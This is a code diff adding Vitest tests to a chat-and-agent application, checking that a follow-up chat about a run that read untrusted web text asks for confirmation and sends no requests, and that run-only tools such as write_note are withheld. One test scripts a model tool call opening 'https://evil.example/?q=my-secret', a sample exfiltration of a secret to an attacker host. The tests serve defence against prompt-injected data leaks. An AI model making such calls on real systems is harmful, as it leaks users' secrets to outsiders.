@@ -1,6 +1,7 @@
 import { expect, test } from "vitest";
 import { z } from "zod";
 import { chatWorld } from "../../test/helpers/chat-world.ts";
+import { insertRun } from "../../test/helpers/run-rows.ts";
 import { builtInTools } from "../tools/built-in.ts";
 import { outsideTool } from "../tools/tool.ts";
 
@@ -135,4 +136,24 @@ test("where it broke off in the middle, nobody claims to know, and it is not don
   expect(sent).toHaveLength(1);
   const told = world.lab.requests.at(-1)?.messages.find(({ role }) => role === "tool");
   expect(told?.text).toContain("Nobody knows whether this happened");
+});
+
+test("a conversation about a run has read text of strangers from the beginning", async () => {
+  const runId = await insertRun(world.admin, ann.id, "stopped");
+  say(calls("open_page", "https://evil.example/?q=my-secret"));
+  const { body } = await world.call("POST", `/api/homework/runs/${runId}/follow-up`, ann.session, {
+    body: { text: "What does it say?" },
+  });
+  const events = await talk.until(body.chat_id, body.since_seq);
+  expect(events.at(-1)?.type).toBe("confirm");
+  expect(urls()).toEqual([]);
+});
+
+test("tools of runs are not there", async () => {
+  say({ toolCalls: [{ name: "write_note", args: { url: "x" } }] });
+  const chat = await talk.begin();
+  await talk.ask(chat.id, "Note it");
+  expect(world.lab.requests.at(-1)?.tools).not.toContain("write_note");
+  expect(world.lab.requests.at(-1)?.tools).toContain("start_homework");
+  expect((await talk.messages(chat.id))[1]).toMatchObject({ calls: [{ tool: "write_note", state: "failed" }] });
 });
